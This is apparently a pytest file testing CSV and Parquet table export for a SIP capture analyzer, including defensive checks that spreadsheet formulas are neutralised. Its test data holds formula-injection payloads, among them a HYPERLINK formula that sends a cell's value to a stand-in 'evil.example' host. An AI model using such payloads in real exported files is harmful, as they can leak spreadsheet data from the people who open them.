"""CSV and Parquet export: one file per view, rows and dtypes that read back, CSV
cells a spreadsheet cannot execute, and selections respected."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from analyzer import Analysis, analyze
from analyzer.report import tables
from analyzer.report.interface import Format
from analyzer.select import Selection, select
from analyzer.views import COLUMNS
from tests.conftest import CAPTURES
from tests.report.edit import edited

# Written independently of analyzer.select on purpose.
CALL_FAILED = {"busy", "no_answer", "rejected", "not_found", "auth_failed", "failed", "no_response"}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
EXT = {Format.CSV: "csv", Format.PARQUET: "parquet"}


@pytest.fixture(scope="module")
def demo() -> Analysis:
    return analyze(str(CAPTURES / "demo.pcapng"))


def read(path: Path) -> pd.DataFrame:
    return pd.read_parquet(path) if path.suffix == ".parquet" else pd.read_csv(path)


def raw_rows(path: Path) -> list[dict[str, str]]:
    """A CSV's cells exactly as written (no type guessing)."""
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize("fmt", [Format.CSV, Format.PARQUET])
@pytest.mark.parametrize("name", ["demo.pcapng", "tcp4-flow-failed.pcap", "udp4-options.pcap"])
def test_one_file_per_view_with_every_row(name: str, fmt: Format, tmp_path: Path) -> None:
    analysis = analyze(str(CAPTURES / name))
    out = tmp_path / "nested" / "tables"
    paths = tables.write(analysis, out, fmt)
    assert paths == [out / f"{view}.{EXT[fmt]}" for view in COLUMNS]
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths)
    for view, path in zip(COLUMNS, paths, strict=True):
        back = read(path)
        frame: pd.DataFrame = getattr(analysis, view)
        assert list(back.columns) == list(COLUMNS[view])
        assert len(back) == len(frame)
    records = {
        "calls": analysis.call_records,
        "registrations": analysis.registration_records,
        "findings": analysis.finding_records,
    }
    for view, recs in records.items():
        assert len(read(out / f"{view}.{EXT[fmt]}")) == len(recs)
    assert len(read(out / f"messages.{EXT[fmt]}")) == len(analysis.store)


@pytest.mark.parametrize("name", ["demo.pcapng", "tcp4-flow-failed.pcap", "udp4-options.pcap"])
def test_parquet_round_trips_dtypes_and_values(name: str, tmp_path: Path) -> None:
    analysis = analyze(str(CAPTURES / name))
    for view, path in zip(COLUMNS, tables.write(analysis, tmp_path, Format.PARQUET), strict=True):
        frame: pd.DataFrame = getattr(analysis, view)
        back = pd.read_parquet(path)
        assert {c: str(t) for c, t in back.dtypes.items()} == COLUMNS[view]
        assert list(back.dtypes) == list(frame.dtypes)
        lists = [c for c, t in COLUMNS[view].items() if t == "object"]
        pd.testing.assert_frame_equal(back.drop(columns=lists), frame.drop(columns=lists))
        for column in lists:
            got = [None if v is None else tuple(int(x) for x in v) for v in back[column]]
            assert got == list(frame[column])


INT = re.compile(r"-?[0-9]+")
FIXED = re.compile(r"-?[0-9]+(\.[0-9]{1,6})?")


def test_csv_cells_are_written_as_documented(demo: Analysis, tmp_path: Path) -> None:
    for view, path in zip(COLUMNS, tables.write(demo, tmp_path, Format.CSV), strict=True):
        frame: pd.DataFrame = getattr(demo, view)
        rows = raw_rows(path)
        assert len(rows) == len(frame)
        assert path.read_bytes().count(b"\r\n") == 0
        for column, dtype in COLUMNS[view].items():
            for cell, value in zip((r[column] for r in rows), frame[column], strict=True):
                missing = value is None or (not isinstance(value, tuple) and pd.isna(value))
                if missing:
                    assert cell == "", (view, column)
                elif dtype in ("int64", "Int64"):
                    assert INT.fullmatch(cell), (view, column, cell)  # never `486.0`
                    assert int(cell) == value
                elif dtype == "float64":
                    assert FIXED.fullmatch(cell), (view, column, cell)  # never `5e-06`
                    assert float(cell) == pytest.approx(value, abs=5e-7)
                elif dtype in ("bool", "boolean"):
                    assert cell == str(bool(value))
                elif dtype == "object":
                    assert cell == " ".join(str(x) for x in value)
                else:
                    assert cell == tables.neutralise(value)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "\\x0dx"),  # control characters are made visible first
        ("'=quoted", "''=quoted"),
        ("a=b", "a=b"),
        ("486 Busy Here", "486 Busy Here"),
        ("", ""),
    ],
)
def test_neutralise_is_reversible(value: str, written: str) -> None:
    assert tables.neutralise(value) == written
    assert written.removeprefix("'") == value or written == value or "\\x" in written


def test_formulas_from_the_capture_are_neutralised(tmp_path: Path) -> None:
    # udp4-busy with a formula for the caller's display name, a Call-ID and a reason
    # phrase that a spreadsheet would evaluate.
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = edited(
        CAPTURES / "udp4-busy.pcap",
        tmp_path / "formula.pcap",
        [
            (b'"Alice" <sip:alice', hyperlink.encode() + b" <sip:alice"),
            (b"1-15501@127.0.0.1", b"@1+2@evil"),
            (b"486 Busy Here", b"486 -2+3 Busy"),
        ],
    )
    analysis = analyze(str(path))
    assert analysis.call_records[0].from_ is not None
    assert analysis.call_records[0].from_.startswith("=HYPERLINK")
    out = tmp_path / "csv"
    tables.write(analysis, out, Format.CSV)
    calls = raw_rows(out / "calls.csv")
    assert calls[0]["from"].startswith("'" + hyperlink)
    assert calls[0]["call_id"] == "'@1+2@evil"
    assert calls[0]["final_reason"] == "'-2+3 Busy"
    assert {r["call_id"] for r in raw_rows(out / "messages.csv")} >= {"'@1+2@evil"}
    assert raw_rows(out / "findings.csv")[0]["call_id"] == "'@1+2@evil"
    # No string cell of any file starts a formula; numeric columns are left alone.
    for view in COLUMNS:
        strings = [c for c, t in COLUMNS[view].items() if t == "string"]
        for row in raw_rows(out / f"{view}.csv"):
            for column in strings:
                assert not row[column].startswith(TRIGGERS), (view, column, row[column])
    # Parquet keeps the strings as captured.
    tables.write(analysis, tmp_path / "pq", Format.PARQUET)
    back = pd.read_parquet(tmp_path / "pq" / "calls.parquet")
    assert back["from"].iloc[0].startswith(hyperlink)


@pytest.mark.parametrize("fmt", [Format.CSV, Format.PARQUET])
def test_selection_is_respected(demo: Analysis, fmt: Format, tmp_path: Path) -> None:
    errors = {f.call_id for f in demo.finding_records if f.severity == "error"}
    failed = [c for c in demo.call_records if c.outcome in CALL_FAILED or c.call_id in errors]
    kept = {c.call_id for c in failed}
    assert 0 < len(kept) < len(demo.call_records)
    tables.write(select(demo, Selection(calls="failed")), tmp_path, fmt)
    ext = EXT[fmt]

    def ids(view: str, column: str = "call_id") -> list[str]:
        return [str(x).removeprefix("'") for x in read(tmp_path / f"{view}.{ext}")[column]]

    assert sorted(ids("calls")) == sorted(kept)
    assert set(ids("registrations")) <= kept
    assert set(ids("findings")) <= kept
    assert set(ids("messages")) == kept
    assert len(ids("messages")) == sum(len(c.messages) for c in failed)
    assert set(ids("responses")) <= kept
    assert set(ids("transactions")) <= kept


def test_output_is_deterministic(demo: Analysis, tmp_path: Path) -> None:
    for fmt in (Format.CSV, Format.PARQUET):
        first = tables.write(demo, tmp_path / "a", fmt)
        second = tables.write(analyze(str(CAPTURES / "demo.pcapng")), tmp_path / "b", fmt)
        for a, b in zip(first, second, strict=True):
            assert a.read_bytes() == b.read_bytes(), a.name


def test_refuses_a_file_and_other_formats(demo: Analysis, tmp_path: Path) -> None:
    target = tmp_path / "report.csv"
    target.write_text("keep me")
    with pytest.raises(ValueError, match="not a directory"):
        tables.write(demo, target, Format.CSV)
    assert target.read_text() == "keep me"
    with pytest.raises(ValueError, match="not a tabular format"):
        tables.write(demo, tmp_path / "out", Format.JSON)
    assert not (tmp_path / "out").exists()


def test_decimal_is_fixed_point_to_the_microsecond() -> None:
    assert [tables.decimal(x) for x in (0.1066, 5e-06, 1e-7, 0.0, 12.5, 1795279153.1664661)] == [
        "0.1066",
        "0.000005",
        "0",
        "0",
        "12.5",
        "1795279153.166466",
    ]
